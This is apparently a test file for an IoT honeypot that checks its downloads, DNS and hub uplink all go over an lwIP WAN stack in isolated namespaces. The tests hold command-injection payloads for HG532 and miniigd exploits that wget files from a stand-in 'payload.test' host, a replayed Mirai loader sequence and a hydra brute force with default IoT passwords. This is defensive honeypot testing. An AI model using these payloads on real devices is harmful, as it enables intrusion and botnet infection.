"""The decoy's own connections over the WAN stack (issue 17): the fetcher's
downloads (HTTP, TFTP, FTP) and its DNS through lwIP's resolver, and the
uplink's TLS to a real tanuki-hub, all through lwIP on a port the decoy
namespace's kernel has no address on.

The namespaces of test_wan.py: the attacker's end (198.18.0.1) runs
dnsmasq (DHCP, and DNS for the test's names), the payload servers on
their standard ports (HTTP 80, TFTP 69) and the hub. The decoy's kernel
sends nothing throughout (/proc/net/snmp). Needs root.
"""
import contextlib
import hashlib
import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
sys.path.insert(0, os.path.join(os.path.dirname(__file__), "..", "lib"))
import fetchsrv  # noqa: E402
import mirai  # noqa: E402
import tanuki_test as tt  # noqa: E402
from tanuki_test import Conn, by_id  # noqa: E402
from test_wan import Pair, WanDaemon, in_netns, ns_hub, sh  # noqa: E402

ATT = "198.18.0.1"
NAMES = {"payload.test": ATT, "hub.test": ATT,
         "lan.test": "192.168.1.1", "private.test": "10.1.2.3", "self.test": "127.0.0.1"}


def kernel_sent(p):
    """Everything the decoy namespace's own kernel sent: IP, TCP, UDP, ICMP."""
    out = sh("ip", "netns", "exec", p.dec, "cat", "/proc/net/snmp").stdout
    rows = [ln.split() for ln in out.splitlines()]
    vals = {}
    for head, val in zip(rows[0::2], rows[1::2]):
        for k, v in zip(head[1:], val[1:]):
            vals[head[0] + k] = int(v)
    return {k: vals[k] for k in ("Ip:OutRequests", "Tcp:OutSegs", "Udp:OutDatagrams",
                                 "Icmp:OutMsgs")}


@contextlib.contextmanager
def dnsmasq(p, dhcp=True):
    """DHCP for the decoy's lwIP and DNS for NAMES, in the attacker namespace."""
    tmp = tempfile.mkdtemp(prefix="tanuki-wanc-")
    log = os.path.join(tmp, "dnsmasq.log")
    args = ["ip", "netns", "exec", p.att, "dnsmasq", "--no-daemon", "--conf-file=/dev/null",
            "--no-resolv", "--no-hosts", "--interface=" + p.aif, "--bind-interfaces",
            "--user=root", "--group=root", "--pid-file=" + os.path.join(tmp, "pid"),
            "--log-queries", "--log-facility=-"]
    if dhcp:
        args += ["--dhcp-range=198.18.0.50,198.18.0.59,255.255.255.0,1h",
                 "--dhcp-option=3," + ATT, "--dhcp-leasefile=" + os.path.join(tmp, "leases")]
    args += ["--address=/%s/%s" % kv for kv in NAMES.items()]
    proc = subprocess.Popen(args, stdout=subprocess.DEVNULL, stderr=open(log, "wb"))
    try:
        time.sleep(0.3)
        assert proc.poll() is None, open(log).read()
        proc.log = lambda: open(log, errors="replace").read()
        yield proc
    finally:
        proc.terminate()
        proc.wait(10)
        shutil.rmtree(tmp, ignore_errors=True)


def att_hub(p, ns=None, addr=ATT):
    """A tanuki-hub listening on addr in namespace ns (the attacker's
    198.18.0.1 unless told)."""
    return ns_hub(ns or p.att, addr)


def fetch_lines(timeout_s=8):
    # `dns`: the resolver lwIP falls back on without DHCP's (and never
    # resolv.conf's, whatever this machine has there)
    return ["config fetch 'fetch'", "\toption enabled '1'", "\toption public '0'",
            "\tlist allow '198.18.0.0/15'", "\toption max_kb '64'",
            "\toption dns '%s'" % ATT, "\toption timeout_s '%d'" % timeout_s, ""]


def downloads(evs):
    return by_id(evs, "cowrie.session.file_download") + \
        by_id(evs, "cowrie.session.file_download.failed")


def fetched(d, c, cmd, url, timeout=15):
    """Runs cmd in the shell c and returns the one download event of url."""
    before = len([e for e in downloads(d.events()) if e.get("url") == url])
    if c is not None:
        mirai.token_cmd(c, cmd)
    evs = d.wait_events(lambda e: len([x for x in downloads(e) if x.get("url") == url])
                        > before, timeout)
    got = [x for x in downloads(evs) if x.get("url") == url]
    assert len(got) > before, (url, [(e["eventid"], e.get("url")) for e in downloads(evs)],
                               d.stderr())
    return got[-1]


def test_wan_client_fetch_dns_uplink():
    """(a) wget, tftp, ftpget and an HG532 door payload by name over lwIP:
    stored with the right digest; (b) names that resolve into private or
    special ranges refused, a refused port and an unknown name failed as
    the device would say; (c) the uplink's summaries reach a hub in the
    attacker namespace over TLS through lwIP (its name resolved by lwIP
    too), the hub's totals equal the store's events; (d) the decoy
    namespace's kernel sent nothing."""
    from test_doors import hg_body, hg_request, read_response
    from test_fetch import payload
    from test_uplink import wait_match

    files = {"/x": ("file", payload("wan-x", 6000)),
             "/door.bin": ("file", payload("wan-door", 3000)),
             "/chunked": ("chunked", payload("wan-ch", 9000))}
    tfiles = {"t.bin": payload("wan-t", 1500)}
    ffiles = {"f.bin": payload("wan-f", 12000)}
    info = tt.persona_info("huawei-hg532")
    user, pw, _ = info["creds"][0]
    with Pair() as p, dnsmasq(p) as dns:
        with in_netns(p.att):
            http = fetchsrv.http_server(files, host=ATT, port=80)
            tftp = fetchsrv.Tftp(tfiles, host=ATT, port=69)
            ftp = fetchsrv.Ftp(ffiles, host=ATT)
        hub = att_hub(p)
        try:
            with hub:
                secret, pin = hub.enroll("decoy-wc1")
                more = fetch_lines() + [
                    "config uplink 'hub'",
                    "\toption url 'https://hub.test:%d/v1/ingest'" % hub.port,
                    "\toption pin '%s'" % pin, "\toption device 'decoy-wc1'",
                    "\toption secret '%s'" % secret, "\toption interval_ms '500'",
                    "\toption timeout_s '5'", "",
                    # nobody answers SNTP there: the hub's Date sets the time
                    "config time 'ntp'", "\tlist ntp '%s'" % ATT, "\toption retry_ms '300'",
                    ""]
                with WanDaemon(p, [("proto", "dhcp")], more=more, main={"sync_ms": "50"},
                               listeners=[("telnet", "telnet", None),
                                          ("door", "hg532", None)]) as d:
                    a = d.wan_address()
                    ip = a["ipaddr"]
                    assert a["dns"] == [ATT], a
                    with in_netns(p.att):
                        c = Conn(d.ports["telnet"], host=ip)
                    mirai.login(c, user, pw)
                    mirai.enter_shell(c)
                    # (a) by name, over lwIP: HTTP (plain and chunked), TFTP, FTP
                    cases = [
                        ("wget http://payload.test/x -O /tmp/x", "http://payload.test/x",
                         files["/x"][1]),
                        ("wget http://payload.test/chunked", "http://payload.test/chunked",
                         files["/chunked"][1]),
                        ("tftp -g -l /tmp/t -r t.bin payload.test", "tftp://payload.test/t.bin",
                         tfiles["t.bin"]),
                        ("ftpget -P %d payload.test /tmp/f f.bin" % ftp.port,
                         "ftp://payload.test:%d/f.bin" % ftp.port, ffiles["f.bin"]),
                    ]
                    for cmd, url, body in cases:
                        ev = fetched(d, c, cmd, url)
                        sha = hashlib.sha256(body).hexdigest()
                        assert ev["eventid"] == "cowrie.session.file_download", (cmd, ev)
                        assert (ev["shasum"], ev["size"]) == (sha, len(body)), (cmd, ev)
                        assert ev["dst_host"] == ATT and ev["src_ip"] == ATT, ev
                        assert d.files()[sha] == body
                    c.close()
                    # (b) names into private and special ranges: refused after
                    # resolving, nothing sent to them (a new session: the
                    # per-session cap)
                    with in_netns(p.att):
                        c = Conn(d.ports["telnet"], host=ip)
                    mirai.login(c, user, pw)
                    mirai.enter_shell(c)
                    for name, why in (("private.test", "private"), ("lan.test", "private"),
                                      ("self.test", "loopback")):
                        url = "http://%s/x" % name
                        ev = fetched(d, c, "wget %s" % url, url)
                        assert ev["eventid"] == "cowrie.session.file_download.failed", ev
                        assert ev["reason"] == "policy" and ev["detail"] == why, ev
                        assert ev["dst_host"] == NAMES[name], ev
                    # a closed port: refused as connect() says it (the RST)
                    url = "http://payload.test:81/x"
                    ev = fetched(d, c, "wget %s" % url, url)
                    assert (ev["reason"], ev["detail"]) == ("connect", "Connection refused"), ev
                    # a name dnsmasq does not know (it answers REFUSED/NXDOMAIN)
                    url = "http://nowhere.test/x"
                    ev = fetched(d, c, "wget %s" % url, url)
                    assert ev["reason"] == "dns", ev
                    c.close()
                    # the HG532 door's payload points at a URL by name
                    body = hg_body("$(/bin/busybox wget http://payload.test/door.bin -O /tmp/d)",
                                   "")
                    with in_netns(p.att):
                        dc = Conn(d.ports["door"], host=ip)
                    dc.send(hg_request(body))
                    head, _ = read_response(dc)
                    assert head.startswith(b"HTTP/1.1 200 OK"), head
                    ev = fetched(d, None, None, "http://payload.test/door.bin")
                    sha = hashlib.sha256(files["/door.bin"][1]).hexdigest()
                    assert ev.get("shasum") == sha, ev
                    assert ev["protocol"] == "hg532", ev
                    dc.close()
                    assert d.files()[sha] == files["/door.bin"][1]
                    # every name went to dnsmasq, from the decoy's lwIP
                    log = dns.log()
                    for name in ("payload.test", "hub.test", "private.test", "nowhere.test"):
                        assert "query[A] %s from %s" % (name, ip) in log, (name, log[-2000:])
                    # (c) the hub's totals are the store's events
                    d.wait_events(lambda e: by_id(e, "cowrie.session.closed"))
                    tot, ids, creds = wait_match(hub, d, timeout=40)
                    assert ids["cowrie.session.file_download"] >= 5, ids
                    assert ids["cowrie.session.file_download.failed"] == 5, ids
                    srcs = hub.api("/v1/sources")["sources"]
                    assert [s["ip"] for s in srcs] == [ATT], srcs
                    # it tried before DHCP gave an address (no DNS server
                    # yet: unreachable, as a device without a link), never after
                    ups = by_id(d.events(), "tanuki.uplink.failed")
                    assert all((u["reason"], u["detail"]) == ("dns", "Network is unreachable")
                               and u["timestamp"] <= a["timestamp"] for u in ups), ups
                    # the hub's Date (over the same TLS through lwIP) set the
                    # time: no SNTP server answers in the attacker namespace
                    evs = d.wait_events(lambda e: by_id(e, "tanuki.time"), timeout=20)
                    t = by_id(evs, "tanuki.time")[0]
                    assert t["source"] == "hub" and abs(t["offset_us"]) < 3e6, t
                    st = subprocess.run([d.binary, "status", "--store", d.store],
                                        capture_output=True, text=True, timeout=30,
                                        env=dict(os.environ, **tt.SAN_ENV)).stdout
                    assert "hub acked seq" in st and "time_source: hub" in st, st
                    # (d) the decoy namespace's kernel sent nothing at all
                    sent = kernel_sent(p)
                    assert not any(sent.values()), sent
                    assert "inet" not in sh("ip", "-n", p.dec, "addr", "show",
                                            "dev", p.dif).stdout
                assert "stored" in hub.stderr()
        finally:
            http.shutdown()
            tftp.close()
            ftp.close()


def test_wan_client_static_refused_and_timeout():
    """`proto static` gives lwIP no DNS server: the fetch section's `dns`
    (198.18.0.1, dnsmasq there answering DNS only) is its resolver. The
    uplink's hub name resolves over the WAN, its port refuses: "connect"
    with "Connection refused", retried; a download from an address nobody
    answers (no ARP reply) ends at the fetch's time budget; the kernel
    sent nothing."""
    from test_fetch import payload

    with Pair() as p, dnsmasq(p, dhcp=False) as dns:
        with in_netns(p.att):
            http = fetchsrv.http_server({"/y": ("file", payload("wan-y", 700))},
                                        host=ATT, port=80)
        try:
            more = fetch_lines(timeout_s=3) + [
                "config uplink 'hub'", "\toption url 'https://hub.test:4443/v1/ingest'",
                "\toption pin 'sha256/" + "A" * 43 + "='", "\toption device 'decoy-wc2'",
                "\toption secret '" + "ab" * 32 + "'", "\toption interval_ms '1000'",
                "\toption timeout_s '2'", ""]
            static = [("proto", "static"), ("ipaddr", "198.18.0.2"),
                      ("netmask", "255.255.255.0"), ("gateway", ATT)]
            info = tt.persona_info("huawei-hg532")
            user, pw, _ = info["creds"][0]
            with WanDaemon(p, static, more=more, main={"sync_ms": "50"}) as d:
                a = d.wan_address()
                assert a["dns"] == [], a
                evs = d.wait_events(lambda e: len(by_id(e, "tanuki.uplink.failed")) >= 2,
                                    timeout=15)
                for f in by_id(evs, "tanuki.uplink.failed")[:2]:
                    assert (f["reason"], f["detail"]) == ("connect", "Connection refused"), f
                with in_netns(p.att):
                    c = Conn(d.port, host="198.18.0.2")
                mirai.login(c, user, pw)
                mirai.enter_shell(c)
                ev = fetched(d, c, "wget http://payload.test/y", "http://payload.test/y")
                assert ev["shasum"] == hashlib.sha256(payload("wan-y", 700)).hexdigest(), ev
                # (the shell itself waits as long as the device's connect
                # would: only the event is waited for here)
                t0 = time.time()
                c.send("wget http://198.18.0.77/z\r\n")
                ev = fetched(d, None, None, "http://198.18.0.77/z")
                assert ev["reason"] == "timeout" and ev["dst_host"] == "198.18.0.77", ev
                assert 2 < time.time() - t0 < 8, time.time() - t0
                c.close()
                assert "query[A] hub.test from 198.18.0.2" in dns.log()
            sent = kernel_sent(p)
            assert not any(sent.values()), sent
        finally:
            http.shutdown()


class PersonaWanDaemon(WanDaemon):
    """WanDaemon as another device (test_wan.py's is the HG532)."""

    def __init__(self, persona, *a, **kw):
        super().__init__(*a, **kw)
        with open(self.conf) as f:
            conf = f.read().replace("option persona 'huawei-hg532'",
                                    "option persona '%s'" % persona)
        with open(self.conf, "w") as f:
            f.write(conf)


def test_wan_client_mirai_loader_dlr():
    """The Mirai loader's sequence over lwIP on the DVR: its echo-built dlr
    (198.18.0.1:80 and the GET line in its code) runs and fetches its bot
    over the WAN stack (MIRAI, FIN), the bot answers `listening tun0`, both
    are stored; the kernel sent nothing."""
    info = tt.persona_info("xiongmai-dvr")
    user, pw, _ = info["creds"][0]
    bot = mirai.fake_bot(40, 1)
    dlr = mirai.fake_dlr(ip=bytes([198, 18, 0, 1]), path=b"/bins/mirai.arm", port=80)
    with Pair() as p, dnsmasq(p):
        with in_netns(p.att):
            http = fetchsrv.http_server({"/bins/mirai.arm": ("file", bot)}, host=ATT, port=80)
        try:
            with PersonaWanDaemon("xiongmai-dvr", p, [("proto", "dhcp")], more=fetch_lines(),
                                  main={"sync_ms": "50"}) as d:
                ip = d.wan_address()["ipaddr"]
                with in_netns(p.att):
                    c = Conn(d.port, host=ip)
                mirai.login(c, user, pw)
                mirai.enter_shell(c)
                ld = mirai.Loader.__new__(mirai.Loader)
                ld.c, ld.dir, ld.arch = c, None, None
                ld.step_ps()
                ld.step_mounts()
                ld.step_prepare()
                endian, machine, arch, _, _ = ld.step_arch()
                assert (endian, machine) == (1, 40), (endian, machine)
                ld.upload_echo(dlr)
                out = ld.run("/bin/busybox chmod 777 upnp; ./upnp; ./dvrHelper telnet.arm")
                tail = b"\nMIRAI\r\nFIN\r\nlistening tun0\r\nIHCCE: applet not found"
                assert out.endswith(tail), out
                assert http.hits == ["/bins/mirai.arm"], http.hits
                ld.close()
                sha = hashlib.sha256(bot).hexdigest()
                evs = d.wait_events(lambda e: len(by_id(e, "tanuki.exec.emulated")) >= 2)
                assert d.files().get(sha) == bot
                got = [e for e in by_id(evs, "cowrie.session.file_download") if e["shasum"] == sha]
                assert len(got) == 1 and got[0]["dst_host"] == ATT, got
                assert got[0]["parent_shasum"] == hashlib.sha256(dlr).hexdigest(), got
            sent = kernel_sent(p)
            assert not any(sent.values()), sent
        finally:
            http.shutdown()


def test_wan_client_hydra():
    """hydra from the attacker namespace against the telnet served by lwIP,
    through a recording relay there (test_hydra.py's): every pair that
    crossed the wire is logged, nothing invented; the kernel sent nothing."""
    import threading
    from test_hydra import Relay, pairs_sent

    class WanRelay(Relay):
        def __init__(self, host, target):
            self.host = host
            super().__init__(target)

        def accept(self):
            while True:
                try:
                    c, _ = self.srv.accept()
                except OSError:
                    return
                rec = bytearray()
                with self.lock:
                    self.streams.append(rec)
                u = socket.create_connection((self.host, self.target))
                threading.Thread(target=self.pipe, args=(c, u, rec), daemon=True).start()
                threading.Thread(target=self.pipe, args=(u, c, None), daemon=True).start()

    users = ["root", "admin", "guest"]
    passwords = ["123456", "password", "xc3511x", "vizxv", "888888", "default"]
    tmp = tempfile.mkdtemp(prefix="tanuki-wanhydra-")
    for name, words in (("users", users), ("pass", passwords)):
        with open(os.path.join(tmp, name), "w") as f:
            f.write("\n".join(words) + "\n")
    static = [("proto", "static"), ("ipaddr", "198.18.0.2"), ("netmask", "255.255.255.0"),
              ("gateway", ATT)]
    try:
        with Pair() as p:
            with WanDaemon(p, static, main={"max_tries": "100"}) as d:
                d.wan_address()
                with in_netns(p.att):
                    relay = WanRelay("198.18.0.2", d.port)
                r = subprocess.run(
                    ["ip", "netns", "exec", p.att, "hydra", "-L", os.path.join(tmp, "users"),
                     "-P", os.path.join(tmp, "pass"), "-t", "4", "-V", "-I",
                     "telnet://127.0.0.1:%d" % relay.port],
                    capture_output=True, text=True, timeout=300, cwd=tmp)
                out = r.stdout + r.stderr
                assert "1 of 1 target completed" in out, out[-2000:]
                assert "0 valid password" in out, out[-1000:]
                with relay.lock:
                    sent = [pr for s in relay.streams for pr in pairs_sent(s)]
                relay.close()
                assert len(set(sent)) >= len(users) * len(passwords) // 2, (sent, out[-1500:])
                evs = d.wait_events(lambda e: len(by_id(e, "cowrie.login.failed")) >= len(sent))
                logged = [(x["username"], x["password"]) for x in by_id(evs, "cowrie.login.failed")]
                assert sorted(logged) == sorted(sent), (sorted(logged), sorted(sent))
                assert {x["src_ip"] for x in by_id(evs, "cowrie.session.connect")} == {ATT}
            sent = kernel_sent(p)
            assert not any(sent.values()), sent
    finally:
        shutil.rmtree(tmp, ignore_errors=True)


def test_wan_client_uplink_via_lan():
    """`option via 'lan'`: a hub on the owner's side (here an address the
    decoy's own namespace holds, 198.18.9.1, not a loopback one) is reached
    through the kernel although `config wan` owns the WAN port; the
    summaries are acked. A wrong value names its line."""
    from test_uplink import wait_match

    with Pair() as p:
        # the kernel has no dummy driver here: the address sits on lo
        sh("ip", "-n", p.dec, "link", "set", "lo", "up")
        sh("ip", "-n", p.dec, "addr", "add", "198.18.9.1/32", "dev", "lo")
        with att_hub(p, ns=p.dec, addr="198.18.9.1") as hub:
            secret, pin = hub.enroll("decoy-wc3")
            more = ["config uplink 'hub'",
                    "\toption url 'https://198.18.9.1:%d/v1/ingest'" % hub.port,
                    "\toption pin '%s'" % pin, "\toption device 'decoy-wc3'",
                    "\toption secret '%s'" % secret, "\toption interval_ms '300'",
                    "\toption timeout_s '5'", "\toption via 'lan'", ""]
            bad = WanDaemon(p, STATIC_WC, more=[m.replace("'lan'", "'lann'") for m in more])
            r = subprocess.run([bad.binary, "check", "-c", bad.conf], capture_output=True,
                               text=True, env=dict(os.environ, **tt.SAN_ENV))
            line = open(bad.conf).read().splitlines().index("\toption via 'lann'") + 1
            assert r.returncode == 2 and ("%s:%d:" % (bad.conf, line)) in r.stderr, r.stderr
            assert "option via must be wan or lan" in r.stderr, r.stderr
            shutil.rmtree(bad.dir, ignore_errors=True)
            # without it the hub is looked for on the WAN side, where
            # nobody answers for 198.18.9.1: the attempt times out
            wan = [m for m in more if "via" not in m and "timeout_s" not in m]
            with WanDaemon(p, STATIC_WC, more=wan[:-1] + ["\toption timeout_s '1'", ""]) as d:
                evs = d.wait_events(lambda e: by_id(e, "tanuki.uplink.failed"), timeout=15)
                f = by_id(evs, "tanuki.uplink.failed")[0]
                assert f["reason"] == "timeout", f
            with WanDaemon(p, STATIC_WC, more=more, main={"sync_ms": "50"}) as d:
                d.wan_address()
                with in_netns(p.att):
                    c = Conn(d.port, host="198.18.0.2")
                c.read_until(b"ogin")
                c.close()
                d.wait_events(lambda e: by_id(e, "cowrie.session.closed"))
                tot, ids, _ = wait_match(hub, d, timeout=30)
                assert ids["cowrie.session.connect"] == 1, ids
                assert not by_id(d.events(), "tanuki.uplink.failed")


STATIC_WC = [("proto", "static"), ("ipaddr", "198.18.0.2"), ("netmask", "255.255.255.0"),
             ("gateway", ATT)]


def test_wan_client_miniigd_door_fetch():
    """The PK5001Z's miniigd door (52869) over lwIP: an AddPortMapping whose
    NewInternalClient runs a wget of a URL by name; the payload is fetched
    through the WAN stack and stored; the kernel sent nothing."""
    from test_doors import read_response, rt_body, rt_request
    from test_fetch import payload

    body = payload("wan-igd", 2500)
    with Pair() as p, dnsmasq(p):
        with in_netns(p.att):
            http = fetchsrv.http_server({"/igd.bin": ("file", body)}, host=ATT, port=80)
        try:
            with PersonaWanDaemon("zyxel-pk5001z", p, [("proto", "dhcp")], more=fetch_lines(),
                                  main={"sync_ms": "50"},
                                  listeners=[("door", "miniigd", None)]) as d:
                ip = d.wan_address()["ipaddr"]
                soap = rt_body("`cd /tmp; wget http://payload.test/igd.bin -O i`")
                with in_netns(p.att):
                    c = Conn(d.ports["door"], host=ip)
                c.send(rt_request(soap, length=len(soap)))
                head, resp = read_response(c)
                assert head.startswith(b"HTTP/1.1 200 OK") and b"AddPortMapping" in resp, head
                c.close()
                ev = fetched(d, None, None, "http://payload.test/igd.bin")
                sha = hashlib.sha256(body).hexdigest()
                assert (ev.get("shasum"), ev["protocol"]) == (sha, "miniigd"), ev
                assert d.files()[sha] == body
            sent = kernel_sent(p)
            assert not any(sent.values()), sent
        finally:
            http.shutdown()
